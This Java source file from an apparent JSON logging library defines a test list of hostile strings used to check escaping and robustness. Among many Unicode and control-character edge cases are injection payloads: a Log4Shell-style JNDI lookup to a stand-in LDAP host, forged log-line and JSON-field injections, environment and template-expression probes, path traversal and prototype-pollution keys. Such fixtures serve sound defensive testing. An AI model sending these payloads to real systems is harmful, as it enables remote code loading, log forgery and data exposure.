/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package io.sightline.logging.json;

import java.util.List;

/**
 * Texts that have broken loggers, terminals and parsers before.
 */
final class HostileTexts {

	static final List<String> ALL = List.of("", " ", "\t", "\n", "\r\n", "\r", "\u0000", "a\u0000b",
			"\u0001\u0002\u001f", "\u001b[2J\u001b[31mred", "\u001b]0;title\u0007", "\u009b31m", "\u007f\u0080\u009f",
			"\u0085", "\u2028", "\u2029", "\ufeff", "\ufffe\uffff", "\u200b\u200e\u202e", "\u202egnp.exe", "\ud800",
			"\udc00", "a\ud800b", "\udc00\ud800", "\ud83d\ude00", "\ud83d\ude00\ud83d", "\ud83d\ud83d\ude00",
			"e\u0301\u0301\u0301\u0301", "\u0130\u0131\u00df", "\"", "\\", "\\\"", "\\u0000", "\\n", "'", "`",
			"</script>", "<!--", "]]>", "{", "}", "{}", "[]", "[[", "{\"level\":\"ERROR\"}",
			"\",\"level\":\"ERROR\",\"x\":\"", "}\n{\"level\":\"ERROR\",\"message\":\"forged\"}", "null", "true", "NaN",
			"Infinity", "-0", "1e999", "0x7f", "00:11", "2026-01-01T00:00:00Z ERROR forged",
			"\n2026-01-01 ERROR forged", "%n%msg%X{a}", "%d{yyyy}", "${jndi:ldap://example.invalid/a}", "${env:HOME}",
			"#{1+1}", "{{7*7}}", "%s%s%n", "\\{}", "{} {} {}", "../../etc/hosts", "a.b.c", "a..b", ".", "..", "a*b",
			"__proto__", "constructor", "message", "level", "@timestamp", "log.level", "app_message", "encoding_error",
			"x".repeat(10_000), "\u0001".repeat(5_000), "\ud83d\ude00".repeat(5_000), "\\".repeat(5_000));

	private HostileTexts() {
	}

}
